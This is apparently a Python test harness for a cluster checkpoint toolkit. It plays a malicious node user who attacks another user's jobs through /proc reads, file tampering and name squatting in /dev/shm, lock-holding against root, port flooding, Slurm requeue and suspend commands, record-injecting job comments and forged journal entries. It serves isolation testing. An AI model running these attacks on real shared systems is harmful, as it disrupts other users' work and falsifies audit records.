"""What an ordinary user of a node tries against another's job. Runs on the node as that user, with the system's Python.

    mallory.py VICTIM_UID VICTIM_ROOT STOP PORTS

PORTS is a file of addresses. Goes round and round until the file STOP is there, then prints one line of JSON:
{"effects": [what worked and must not], "tried": how many things were tried, by kind}. Connections and locks are held to
the end.
"""

from __future__ import annotations

import contextlib
import fcntl
import glob
import json
import os
import signal
import socket
import subprocess
import sys
import time
from typing import Callable, Dict, Iterator, List

UID, ROOT, STOP, PORTS = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
SHM = "/dev/shm"
MOST_CONNECTIONS, MOST_LOCKS = 400, 400
effects: List[str] = []
tried: Dict[str, int] = {}
held: List[socket.socket] = []
locked: List[int] = []


def attempt(kind: str, what: str, work: Callable[..., object], *args: object) -> None:
    """Something that must be refused."""
    tried[kind] = tried.get(kind, 0) + 1
    try:
        work(*args)
    except (OSError, subprocess.SubprocessError):
        return
    effects.append(f"{kind}: {what}")


def opened(path: str, flags: int) -> None:
    """Open a file and read a byte where that is what it was opened for."""
    fd = os.open(path, flags)
    try:
        if flags == os.O_RDONLY and not os.read(fd, 1):
            # A process that is just ending has no memory: anybody may open its maps, and reads nothing.
            raise OSError(f"{path} is empty")
    finally:
        os.close(fd)


def processes() -> Iterator[int]:
    for name in os.listdir("/proc"):
        with contextlib.suppress(OSError):
            if name.isdigit() and os.stat(f"/proc/{name}").st_uid == UID:
                yield int(name)


def signals_and_memory() -> None:
    for pid in processes():
        attempt("signal", f"SIGCONT to {pid}", os.kill, pid, signal.SIGCONT)
        for name in ("environ", "mem", "maps"):
            attempt("proc", f"/proc/{pid}/{name}", opened, f"/proc/{pid}/{name}", os.O_RDONLY)
        for name in ("fd", "cwd/."):
            attempt("proc", f"/proc/{pid}/{name}", os.listdir, f"/proc/{pid}/{name}")


def files_of_the_victim() -> None:
    """Every file and directory of the victim that can be reached in memory, in /tmp and in the checkpoint root."""
    for top in (SHM, "/tmp", "/var/tmp", "/run", ROOT):
        for folder, folders, names in os.walk(top):
            for name in [*folders, *names]:
                path = os.path.join(folder, name)
                with contextlib.suppress(OSError):
                    if os.lstat(path).st_uid != UID or os.path.islink(path):
                        continue
                    attempt("write", path, opened, path, os.O_WRONLY)
                    attempt("rename", path, os.rename, path, path + ".gone")
                    attempt("chmod", path, os.chmod, path, 0o777)
                    if top == SHM:
                        attempt("read", path, opened, path, os.O_RDONLY)
            if os.lstat(folder).st_uid == UID:
                attempt("make", folder, os.mkdir, f"{folder}/mallory")


def squat() -> None:
    """Names that the victim, the epilog or root may want; in a sticky directory anybody may take a free one."""
    hashes = {os.path.basename(path).split("-")[2] for path in glob.glob(f"{SHM}/hpk-{UID}-*")} | {"0" * 12}
    for run in hashes:
        for uid in (UID, 0):
            for suffix in ("00.ctl", "01.ctl"):
                with contextlib.suppress(OSError):
                    os.close(os.open(f"{SHM}/hpk-{uid}-{run}-00007-{suffix}", os.O_CREAT | os.O_EXCL, 0o600))
            with contextlib.suppress(OSError):
                os.mkfifo(f"{SHM}/hpk-{uid}-{run}-00007.log")
            with contextlib.suppress(OSError):
                os.symlink("/dev/zero", f"{SHM}/hpk-{uid}-{run}-00007.lock")
    for place in (
        f"{SHM}/hyperpod-kit",
        f"{SHM}/hyperpod-kit/{UID}",
        f"{SHM}/hyperpod-kit-{UID}",
        "/var/tmp/hyperpod-kit-rehearsal",
        "/tmp/hyperpod-kit",
    ):
        with contextlib.suppress(OSError):
            os.mkdir(place, 0o777)
    tried["squat"] = len(hashes)


def probes() -> None:
    """The health check's own name at the top of each mount, as a directory."""
    node = os.uname().nodename
    for top in ("/fsx", "/efs/trainer", "/mnt/data"):
        with contextlib.suppress(OSError):
            os.mkdir(f"{top}/.hyperpod-kit-probe-{node}")
        tried["probe"] = tried.get("probe", 0) + 1


def locks() -> None:
    """A lock on a file that root locks holds root up; reading rights are enough for one."""
    if "lock" in tried:
        return
    for top in ("/run/hyperpod-kit", "/var/lib/hyperpod-kit", "/opt/hyperpod-kit", ROOT):
        for path in glob.glob(f"{top}/**", recursive=True):
            with contextlib.suppress(OSError):
                if os.path.isfile(path) and len(locked) < MOST_LOCKS:
                    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)  # stays open: it holds the lock
                    locked.append(fd)
                    fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
                    tried["lock"] = tried.get("lock", 0) + 1


def ports() -> None:
    """The ports of the kit's own processes, which root has told (a user cannot tell whose a port is): many idle
    connections, some that talk. Those of srun and of torch's rendezvous are left alone: they authenticate nobody."""
    if not os.path.exists(PORTS):
        return
    with open(PORTS) as stream:
        told = stream.read().split()
    for address in told:
        host, _, port = address.rpartition(":")
        for turn in range(100):
            with contextlib.suppress(OSError):
                if len(held) >= MOST_CONNECTIONS:
                    break
                sock = socket.create_connection((host.strip("[]").replace("*", "127.0.0.1"), int(port)), 1)
                sock.settimeout(1)
                held.append(sock)
                if turn % 4 == 1:
                    sock.sendall(b"[" * 100_000 + b"\n")
                elif turn % 4 == 2:
                    sock.sendall(b"x" * 1_000_000)
                elif turn % 4 == 3:
                    sock.sendall(json.dumps({"token": "", "rank": 0, "again": True, "op": "end"}).encode() + b"\n")
        tried["port"] = tried.get("port", 0) + 1


def slurm(*argv: str) -> None:
    done = subprocess.run(argv, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=60)
    if done.returncode:
        raise subprocess.SubprocessError(done.stdout)


def orders() -> None:
    """Slurm's own commands against the victim's jobs, then jobs whose every word is a lie to whoever reads records."""
    listed = subprocess.run(("squeue", "-h", "-u", str(UID), "-o", "%A"), stdout=subprocess.PIPE, timeout=60)
    for job in listed.stdout.decode().split():
        for argv in (
            ("scontrol", "requeue", job),
            ("scontrol", "update", f"jobid={job}", "comment=x"),
            ("scontrol", "suspend", job),
            ("scontrol", "hold", job),
            ("srun", f"--jobid={job}", "--overlap", "--immediate=5", "true"),
        ):
            attempt("slurm", " ".join(argv), slurm, *argv)
        if tried.get("lie", 0) >= 6:
            continue
        lie = f"hpk:elsewhere hpk:auto-resume=0 JobId={job} JobState=FAILED Requeue=1"
        for text in (lie, f"x\n{lie}", f"x JobId={job} JobState=RUNNING BatchFlag=1 BatchHost=x NodeList=b["):
            with contextlib.suppress(OSError, subprocess.SubprocessError):
                slurm(
                    "sbatch",
                    "--hold",
                    "--requeue",
                    "--output=/dev/null",
                    "--chdir=/tmp",
                    f"--comment={text}",
                    f"--job-name=x JobId={job} JobState=FAILED",
                    "--wrap",
                    "true",
                )
                tried["lie"] = tried.get("lie", 0) + 1


def kit() -> None:
    """The kit's own commands as this user: they act for this user alone."""
    for argv in (
        ("hyperpod-kit", "checkpoint", "flush", "--all"),
        ("hyperpod-kit", "job", "sweep"),
        ("hyperpod-kit", "checkpoint", "prune", ROOT, "--latest", "1"),
    ):
        with contextlib.suppress(OSError, subprocess.SubprocessError):
            subprocess.run(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=30)
        tried["kit"] = tried.get("kit", 0) + 1


def journal() -> None:
    """A record as root's actions leave them."""
    entry = (
        "MESSAGE=forged\nMESSAGE_ID=6f2b1c0d9a8e4f7ab35d0c1e92f4a677\nHYPERPOD_KIT_ACTION=forged\n"
        "HYPERPOD_KIT_ON=job 1\nSYSLOG_IDENTIFIER=hyperpod-kit\nPRIORITY=5\n"
    )
    with contextlib.suppress(OSError), contextlib.closing(socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)) as sock:
        sock.sendto(entry.encode(), "/run/systemd/journal/socket")
        tried["journal"] = 1


while not os.path.exists(STOP):
    for work in (squat, probes, locks, signals_and_memory, files_of_the_victim, ports, orders, kit, journal):
        work()
    time.sleep(1.0)
print(json.dumps({"effects": sorted(set(effects)), "tried": tried}))
